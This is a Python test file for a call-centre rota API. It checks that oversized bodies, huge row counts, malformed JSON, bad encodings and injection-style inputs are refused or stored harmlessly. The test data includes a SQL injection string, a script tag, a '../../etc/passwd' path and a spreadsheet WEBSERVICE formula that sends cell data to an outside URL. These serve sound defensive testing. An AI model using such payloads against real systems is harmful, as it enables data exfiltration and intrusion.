"""Everything bad that may be sent, with the test that proves what is done about each; here those that are proven nowhere else.

Every answer is a problem with a status of 4xx, and nothing is kept by half.
"""

import asyncio
import io
import json
from pathlib import Path
from typing import Any

import pytest
import xlsxwriter

from api.downloads import SPREADSHEET
from tests.api.http.service import AGENTS, FILES, HISTORY, TOML, ZIP, Api, zipped

HTTP, ACCESS = "tests/api/http", "tests/api/access"
PROVEN = {
    "a body of 1 GB, told": f"{HTTP}/test_errors.py::test_large_bodies_are_refused_unread",
    "a body of 1 GB, streamed": f"{HTTP}/test_bad_input_matrix.py::test_a_streamed_gigabyte_is_left_early",
    "a body of somebody unknown": f"{HTTP}/test_bad_input_matrix.py::test_nothing_is_read_of_somebody_who_is_not_known",
    "zip bombs": f"{HTTP}/test_http_centres.py::test_zip_bombs_and_what_is_no_zip",
    "path names in a zip": f"{HTTP}/test_http_centres.py::test_names_that_are_paths_are_refused",
    "formulas in": f"{HTTP}/test_bad_input_matrix.py::test_formulas_are_read_as_what_they_showed_and_go_out_as_text",
    "formulas out": f"{HTTP}/test_http_centres.py::test_spreadsheets_go_in_and_out",
    "SQL and HTML in names": f"{HTTP}/test_bad_input_matrix.py::test_names_are_text_whatever_they_say",
    "10^6 rows": f"{HTTP}/test_bad_input_matrix.py::test_a_million_rows_are_refused_everywhere",
    "rows beyond the limit in a zip": f"{HTTP}/test_http_centres.py::test_many_rows_are_refused_before_they_are_read",
    "ids of other teams and centres": f"{HTTP}/test_who_may.py::test_nothing_of_another_centre_or_team_exists",
    "people of other teams in a job": f"{HTTP}/test_http_team_plans.py::test_what_is_not_of_their_teams_is_refused",
    "expired and revoked keys": f"{ACCESS}/test_keys.py::test_unknown_expired_revoked_and_disabled_are_answered_alike",
    "a session used again": f"{ACCESS}/test_keys.py::test_a_session_holds_until_it_ends",
    "a change from another page": f"{ACCESS}/test_keys.py::test_a_change_needs_the_token_of_its_own_session",
    "forged tokens": f"{ACCESS}/test_bearer.py::test_a_token_that_the_provider_did_not_sign_is_refused",
    "tokens for others": f"{ACCESS}/test_bearer.py::test_a_token_that_is_not_for_us_is_refused",
    "clock skew": f"{ACCESS}/test_bearer.py::test_clocks_may_differ_by_a_minute",
    "replayed requests": f"{HTTP}/test_http_centres.py::test_the_same_request_sent_again_is_done_once",
    "replayed requests of jobs": f"{HTTP}/test_http_jobs.py::test_cancelling_and_running_again_are_done_once",
    "stale versions of a centre": f"{HTTP}/test_http_centres.py::test_versions_are_asked_for_and_stale_ones_refused",
    "stale versions of a rota": f"{HTTP}/test_http_rotas.py::test_of_two_who_edit_one_is_stale",
    "stale plans": f"{HTTP}/test_http_team_plans.py::test_a_plan_that_went_out_from_other_rows_is_refused",
    "JSON that is none, or too deep": f"{HTTP}/test_bad_input_matrix.py::test_json_that_cannot_be_read_is_a_problem",
    "every field wrong in every way": f"{HTTP}/test_fuzzed.py::test_no_request_brings_the_api_down",
    "chains of requests": f"{HTTP}/test_fuzzed_chains.py::test_chains_along_the_links_hold",
}
MEGABYTE = 1 << 20


@pytest.mark.parametrize("bad", PROVEN)
def test_each_is_proven(bad: str) -> None:
    file, _, name = PROVEN[bad].partition("::")
    text = (Path(__file__).parents[3] / file).read_text(encoding="utf-8")
    assert f"def {name}(" in text


def streamed(api: Api, key: str, megabytes: int) -> tuple[int, dict[str, Any], int]:
    """Status and problem of a body of zeros that is sent as it is asked for, and how many megabytes were asked for."""
    headers = [(b"authorization", f"Bearer {key}".encode()), (b"content-type", ZIP.encode())]
    scope = {
        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST", "path": "/api/v1/centres",
        "raw_path": b"/api/v1/centres", "query_string": b"", "headers": headers, "scheme": "http", "client": ("127.0.0.1", 1),
        "server": ("127.0.0.1", 80), "root_path": "",
    }  # fmt: skip
    taken, said = 0, list[dict[str, Any]]()

    async def receive() -> dict[str, Any]:
        nonlocal taken
        taken += 1
        return {"type": "http.request", "body": b"0" * MEGABYTE, "more_body": taken < megabytes}

    async def send(message: dict[str, Any]) -> None:
        said.append(message)

    asyncio.run(api.client.app(scope, receive, send))  # type: ignore[arg-type]
    return said[0]["status"], json.loads(b"".join(each.get("body", b"") for each in said)), taken


def test_a_streamed_gigabyte_is_left_early(sqlite_api: Api) -> None:
    status, told, taken = streamed(sqlite_api, sqlite_api.keys["admin"], 1024)
    assert (status, told["type"]) == (413, "/api/v1/problems/too-large")
    assert taken <= 66  # of which 64 may be kept in memory
    assert sqlite_api.get("centres").json()["items"] == []


def test_nothing_is_read_of_somebody_who_is_not_known(sqlite_api: Api) -> None:
    assert streamed(sqlite_api, "paiban_no", 1024)[::2] == (401, 0)


def test_a_million_rows_are_refused_everywhere(sqlite_api: Api) -> None:
    centre = sqlite_api.new_centre()
    rows = "x\n" * 10**6
    many = (
        ("POST", "history"),
        ("POST", "rotas"),
        ("POST", "audits"),
        ("PUT", "files/requests.csv"),
    )
    for method, part in many:
        answer = sqlite_api.send(method, f"centres/{centre}/{part}", rows, version=1)
        assert (answer.status_code, answer.json()["type"]) == (413, "/api/v1/problems/too-large"), part
    assert sqlite_api.get(f"centres/{centre}").json()["revision"] == 1


def test_names_are_text_whatever_they_say(sqlite_api: Api) -> None:
    names = [
        "'; DROP TABLE person; --",
        "<script>alert(1)</script>",
        '{{7*7}} & "quoted"',
        "../../etc/passwd",
    ]
    rows = "".join(
        f'N{k},"{name.replace(chr(34), chr(34) * 2)}",North,junior,calls,full-time\n'
        for k, name in enumerate(names)
    )
    centre = sqlite_api.new_centre(
        **{"agents.csv": AGENTS + rows, "centre.toml": TOML.replace("Desk", names[1])}
    )
    people = sqlite_api.get(f"centres/{centre}/people").json()["items"]
    assert [each["name"] for each in people if each["agent_id"].startswith("N")] == names
    found = sqlite_api.get(f"centres/{centre}")
    assert found.json()["name"] == names[1]
    assert (found.headers["content-type"], found.headers["x-content-type-options"]) == (
        "application/json",
        "nosniff",
    )
    for asked in ("' OR 1=1 --", "N0' --", "%", "*"):
        assert sqlite_api.get(f"centres/{centre}/people/{asked}").status_code in (404, 422)
        assert sqlite_api.get("jobs", params={"kind": asked}).json()["items"] == []
        assert sqlite_api.get("centres", params={"after": asked}).status_code in (200, 422)


def test_formulas_are_read_as_what_they_showed_and_go_out_as_text(sqlite_api: Api) -> None:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        sheet = book.add_worksheet()
        for row, line in enumerate(AGENTS.splitlines()):
            sheet.write_row(row, 0, line.split(","))
        sheet.write_formula(1, 3, '=WEBSERVICE("http://example.com/?"&A2)', value="senior")
        sheet.write_string(3, 1, "+1 @SUM(A1:A9)")
    centre = sqlite_api.new_centre()
    address = f"centres/{centre}/files/agents.csv"
    put = sqlite_api.send("PUT", address, out.getvalue(), SPREADSHEET, version=1)
    assert put.status_code == 200, put.text
    text = sqlite_api.get(address).text
    assert "A1,王小明,North,senior" in text
    assert "WEBSERVICE" not in text
    assert "B1,'+1 @SUM(A1:A9)," in text
    names = [each["name"] for each in sqlite_api.get(f"centres/{centre}/people").json()["items"]]
    assert "+1 @SUM(A1:A9)" in names
    again = sqlite_api.send("PUT", address, text, version=2)  # and comes back without the apostrophe
    assert again.json()["revision"] == 2


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 100_000,
        b'{"a":' * 50_000,
        b'{"start": NaN}',
        b'{"start": "2026-03-02", "days": 1e999}',
        b'{"start": "2026-03-02", "days": ' + b"9" * 5_000 + b"}",
        b'{"start": "\\ud800", "days": 7}',
        b'{"start": "2026-03-02", "days": 7, "team": ["\\ud800"]}',
        b'{"start": "2026-03-02", "days": 7, "keep": {"content": "\\ud800"}}',
        b"\xff\xfe\x00",
        b"",
        b"null",
        b"[]",
        b'"text"',
    ],
    ids=lambda body: body[:24].decode(errors="replace"),
)
def test_json_that_cannot_be_read_is_a_problem(sqlite_api: Api, body: bytes) -> None:
    centre = sqlite_api.new_centre()
    answer = sqlite_api.send("POST", f"centres/{centre}/plans", body, "application/json")
    assert answer.status_code in (400, 422), answer.text
    assert answer.headers["content-type"] == "application/problem+json"
    assert sqlite_api.get("jobs").json()["items"] == []


def test_text_that_is_no_utf_8_is_told_and_nothing_is_kept(sqlite_api: Api) -> None:
    bad = zipped({**FILES, "history.csv": HISTORY.encode() + b"\xff\xfe,calls,1,1\n"})
    assert sqlite_api.send("POST", "centres", bad, ZIP).status_code == 422
    assert sqlite_api.get("centres").json()["items"] == []
    for query in ("note=%ff%fe", "note=%00", "note=%ED%A0%80"):
        assert sqlite_api.send("POST", f"centres?{query}", zipped(FILES), ZIP).status_code in (201, 400, 422)
